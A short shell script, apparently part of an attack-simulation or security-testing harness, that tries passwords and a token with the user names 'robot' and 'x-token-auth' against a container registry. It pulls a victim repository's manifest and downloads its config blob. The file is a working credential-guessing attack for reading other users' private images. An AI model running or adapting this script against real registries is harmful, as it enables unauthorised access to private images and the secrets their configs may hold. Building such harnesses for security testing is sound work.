set -eu
. "$ATTACKS/claim.sh"
for password in $passwords $token; do
	for user in robot x-token-auth; do
		manifest=$(curl -sS --max-time 20 -u "$user:$password" -H 'Accept: application/vnd.oci.image.manifest.v1+json, application/vnd.docker.distribution.manifest.v2+json' \
			"http://$REGISTRY/v2/$VICTIM/manifests/latest")
		config=$(printf '%s' "$manifest" | tr -d ' \n' | sed -n 's/.*"config":{\([^}]*\)}.*/\1/p' | field digest)
		[ -z "$config" ] || curl -sS --max-time 20 -L -u "$user:$password" "http://$REGISTRY/v2/$VICTIM/blobs/$config"
	done
done
echo "probed"
